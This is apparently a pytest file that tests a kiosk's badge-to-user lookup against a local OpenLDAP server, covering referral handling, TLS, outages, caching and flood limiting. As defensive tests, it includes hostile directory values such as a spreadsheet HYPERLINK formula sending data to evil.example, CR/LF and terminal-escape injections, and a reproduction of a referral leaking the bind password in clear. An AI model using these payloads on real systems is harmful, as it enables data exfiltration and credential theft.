"""The site's badge directory against a real OpenLDAP server (slapd, on loopback, StartTLS and
LDAPS with a test CA): referrals, values that are no user ID, outages, the cache's bound and a
reader flooding the desk — each reproduced as it was found in a review of the kiosk in an open
office."""

from __future__ import annotations

import json
import time

import pytest

from kiosk.badges import (
    BadgeDirectory,
    BadgeResolver,
    BadgeTable,
    DirectoryUnavailable,
    ldap_connector,
)
from tests import ldap_server
from tests.ldap_server import KIOSK_DN, KIOSK_PASSWORD, SUFFIX, CaptureServer, Slapd

if not ldap_server.available():  # never skipped: CI installs it (.ci/run)
    raise RuntimeError("these tests need OpenLDAP's server: apt-get install slapd")

PEOPLE = f"ou=people,{SUFFIX}"


def person(uid: str, badge: str, mail) -> dict:
    return {"dn": f"uid={uid},{PEOPLE}", "objectClass": "inetOrgPerson", "uid": uid,
            "cn": uid, "sn": uid, "employeeNumber": badge, "mail": mail}


#: What a directory may hold in the attribute the kiosk reads, and what the kiosk makes of it.
VALUES = [
    ("0004521788", "mai@corp.example.au", "mai@corp.example.au"),
    ("00000002", "Wei@Corp.Example.AU", "Wei@corp.example.au"),       # the domain's case
    ("00000003", '=HYPERLINK("http://evil.example/?"&A1,"Mai")', None),  # a formula
    ("00000004", "+SUM(1,2)@corp.example.au", None),
    ("00000005", "-2+3@corp.example.au", None),
    ("00000006", "zoe@corp.example.au\r\nadmin@corp.example.au", None),  # CR/LF
    ("00000007", "\x1b]0;owned\x07zoe@corp.example.au", None),         # a terminal escape
    ("00000008", "zoe\u202e@corp.example.au", None),                     # a bidi override
    ("00000009", "zoe@corp.example.au@evil.example", None),              # two @
    ("00000010", "zoe@corp_example", None),                              # no host name
    ("00000011", "x" * 90 + "@corp.example.au", None),                   # too long
    ("00000012", ["zoe@corp.example.au", "mai@corp.example.au"], None),  # two values
]


@pytest.fixture(scope="module")
def ca():
    import trustme

    return trustme.CA()


@pytest.fixture(scope="module")
def capture():
    server = CaptureServer()
    yield server
    server.close()


@pytest.fixture(scope="module")
def slapd(tmp_path_factory, ca, capture):
    entries = [person(f"p{i}", badge, mail) for i, (badge, mail, _) in enumerate(VALUES)]
    entries += [person("twin1", "00000099", "twin1@corp.example.au"),
                person("twin2", "00000099", "twin2@corp.example.au"),  # one badge, two people
                {"dn": f"ou=partner,{PEOPLE}", "objectClass": ["referral", "extensibleObject"],
                 "ou": "partner", "ref": f"ldap://127.0.0.1:{capture.port}/{PEOPLE}"}]
    with Slapd(tmp_path_factory.mktemp("slapd"), ca=ca, entries=entries) as server:
        yield server


def directory(slapd, *, url=None, base=PEOPLE, ca_path=None, **kwargs) -> BadgeDirectory:
    from kiosk.badges import user_checker
    from kiosk.config import from_dict

    config = from_dict({"desk": {"id": "d12", "host_user_id": "d12@corp.example.au"},
                        "callcenter": {"url": "https://xsp.example.au/com.broadsoft.xsi-"
                                       "actions/v2.0", "default_domain": "corp.example.au"}})
    connect = ldap_connector(url or slapd.url, bind_dn=KIOSK_DN, password=KIOSK_PASSWORD,
                             ca_bundle=str(ca_path or slapd.ca_path), timeout_s=3)
    return BadgeDirectory(connect, base=base, filter_template="(employeeNumber={badge})",
                          attribute="mail", check_user=user_checker(config), **kwargs)


@pytest.mark.parametrize(("badge", "stored", "expected"), VALUES,
                         ids=[repr(v[1])[:30] for v in VALUES])
def test_a_directory_value_counts_only_as_a_user_id(slapd, badge, stored, expected):
    assert directory(slapd).lookup(badge) == expected


def test_one_badge_held_by_two_people_matches_nobody(slapd):
    assert directory(slapd).lookup("00000099") is None


@pytest.mark.parametrize("scheme", ["ldap+starttls", "ldaps"])
def test_a_referral_never_takes_the_bind_to_another_server(slapd, capture, scheme):
    """Found: ldap3 followed a referral (here to a plain-LDAP listener that strips StartTLS)
    and bound there with the kiosk's DN and password, in clear."""
    url = slapd.ldaps_url if scheme == "ldaps" else slapd.url
    before = capture.connections
    looked_up = directory(slapd, url=url, base=f"ou=partner,{PEOPLE}")
    assert looked_up.lookup("0004521788") is None  # a referral is no answer
    time.sleep(0.2)  # (a connection the client had started would have arrived by now)
    assert capture.connections == before
    assert KIOSK_PASSWORD.encode() not in capture.received
    assert KIOSK_DN.encode() not in capture.received


def test_the_old_client_settings_did_send_the_password_to_the_referral(slapd, capture):
    """The reproduction itself, so that the capture above is known to work: ldap3's default
    (auto_referrals) over LDAPS hands the bind to the referral's server in clear."""
    import ssl

    from ldap3 import Connection, Server, Tls

    tls = Tls(validate=ssl.CERT_REQUIRED, ca_certs_file=str(slapd.ca_path))
    connection = Connection(Server(slapd.ldaps_url, use_ssl=True, tls=tls), user=KIOSK_DN,
                            password=KIOSK_PASSWORD, receive_timeout=3)
    connection.bind()
    connection.search(f"ou=partner,{PEOPLE}", "(employeeNumber=1)", attributes=["mail"])
    connection.unbind()
    assert KIOSK_PASSWORD.encode() in capture.received
    capture.received.clear()


def test_a_server_with_a_certificate_we_do_not_trust_is_an_outage(slapd, tmp_path):
    import trustme

    other = tmp_path / "other-ca.pem"
    trustme.CA().cert_pem.write_to_path(str(other))
    for url in (slapd.url, slapd.ldaps_url):
        with pytest.raises(DirectoryUnavailable) as refused:
            directory(slapd, url=url, ca_path=other).lookup("0004521788")
        assert KIOSK_PASSWORD not in str(refused.value)


def test_the_cache_is_bounded(slapd):
    looked_up = directory(slapd, cache_size=8)
    for number in range(40):
        looked_up.lookup(f"{70000000 + number}")
    assert len(looked_up._cache) == 8
    assert looked_up.lookup("0004521788") == "mai@corp.example.au"


def test_an_outage_is_named_and_forgotten_as_soon_as_the_directory_is_back(
        tmp_path, ca):
    """Found: an outage read as "not known here", and a known badge stayed unknown for ~6 s
    after the directory came back."""
    entries = [person("mai", "0004521788", "mai@corp.example.au")]
    server = Slapd(tmp_path / "slapd", ca=ca, entries=entries)
    table = BadgeTable(tmp_path / "badges.json", key_file=tmp_path / "badge-key")
    resolve = BadgeResolver(table, directory(server))
    with pytest.raises(DirectoryUnavailable):  # not started: connection refused
        resolve("0004521788")
    with server:
        assert resolve("0004521788") == ("mai@corp.example.au", "directory")  # at once


# --- at the desk ---------------------------------------------------------------------------


@pytest.fixture
def desk_with_directory(make_unit, tmp_path, ca):
    unit = make_unit()
    entries = [person("zoe", "0004521788", "zoe@demo.example")]
    server = Slapd(tmp_path / "slapd", ca=ca, entries=entries)
    table = BadgeTable(tmp_path / "badges.json", key_file=tmp_path / "badge-key")
    looked_up = directory(server)
    unit.engine.badge_resolver = BadgeResolver(table, looked_up)
    unit.directory, unit.slapd = looked_up, server
    yield unit
    server.stop()


def _tap(unit, number):
    future = unit.engine.badge_tapped(number)
    if future is not None:
        future.result(20)
    unit.engine.settle()
    return unit.engine.snapshot.badge


def test_the_screen_says_outage_not_unknown_and_the_next_tap_works(desk_with_directory):
    unit = desk_with_directory
    assert _tap(unit, "0004521788").kind == "directory_down"
    (row,) = unit.query("SELECT detail FROM events WHERE kind = 'badge_directory_down'")
    assert "Refused" in row["detail"] or "refused" in row["detail"]
    assert not unit.query("SELECT * FROM events WHERE kind = 'badge_unknown'")
    unit.slapd.start()
    unit.advance(5)
    badge = _tap(unit, "0004521788")
    assert (badge.kind, badge.user_id) == ("fill", "zoe@demo.example")


def test_a_flood_of_reads_is_limited_and_logged_once(desk_with_directory):
    """Found: 2,000 taps in 47 s made 2,000 directory binds, 2,000 cache entries and 2,000
    lines in the log and the journal: a badge → user ID oracle for a rogue reader."""
    unit = desk_with_directory
    unit.slapd.start()
    for number in range(2000):
        unit.engine.badge_tapped(f"{50000000 + number}")
    unit.engine.settle()
    asked = unit.directory.asked
    assert asked <= 5
    rows = unit.query("SELECT kind, detail FROM events WHERE kind LIKE 'badge%'")
    assert len(rows) <= 6
    assert sum("too many reads" in r["detail"] for r in rows) == 1
    unit.advance(11)  # the back-off over, the reader is heard again
    assert _tap(unit, "0004521788").kind == "fill"
    assert json.loads(unit.query("SELECT detail FROM events ORDER BY id DESC LIMIT 1")[0]
                      ["detail"])["agent"] == "zoe@demo.example"


def _config_for(slapd, tmp_path, password: str):
    from kiosk.config import load

    secret = tmp_path / "ldap-password"
    secret.write_text(password)
    secret.chmod(0o600)
    path = tmp_path / "kiosk.toml"
    path.write_text(f"""
[desk]
id = "desk12"
host_user_id = "desk12@corp.example.au"
[callcenter]
url = "https://xsp.example.au/com.broadsoft.xsi-actions/v2.0"
default_domain = "corp.example.au"
[badge]
device = "/dev/input/by-id/usb-reader-event-kbd"
table = "{tmp_path}/badges.json"
key_file = "{tmp_path}/badge-key"
ldap_url = "{slapd.url}"
ldap_bind_dn = "{KIOSK_DN}"
ldap_password_file = "{secret}"
ldap_base = "{PEOPLE}"
ldap_ca_bundle = "{slapd.ca_path}"
""")
    return load(path)


def test_doctor_asks_the_directory(tmp_path, ca):
    """Found: `doctor` checked neither the reader nor the directory."""
    from kiosk.doctor import directory_check

    server = Slapd(tmp_path / "slapd", ca=ca, entries=[])
    config = _config_for(server, tmp_path, KIOSK_PASSWORD)
    down = directory_check(config, {})
    assert not down.ok and "cannot be asked" in down.detail
    with server:
        up = directory_check(config, {})
        assert up.ok and "TLS verified, referrals not followed" in up.detail, up.detail
        wrong = directory_check(_config_for(server, tmp_path, "not-the-password"), {})
        assert not wrong.ok and "invalidCredentials" in wrong.detail
        assert "not-the-password" not in wrong.detail + wrong.advice


def test_badges_listen_says_the_directory_is_down_instead_of_a_traceback(tmp_path, ca,
                                                                        capsys):
    """Found: `badges listen` printed tracebacks when the directory could not be asked."""
    import argparse

    from kiosk.cli.badges_cmd import run_listen
    from tests.test_badges import Device, typed

    server = Slapd(tmp_path / "slapd", ca=ca, entries=[])  # never started: an outage
    config = _config_for(server, tmp_path, KIOSK_PASSWORD)
    device = Device(typed("0004521788"), unplug=False)
    args = argparse.Namespace(config=str(config.source), count=1)
    assert run_listen(args, open_device=lambda path: device) == 0
    captured = capsys.readouterr()
    assert captured.out.startswith("••••1788  → the directory cannot be asked:")
    assert "Traceback" not in captured.out + captured.err
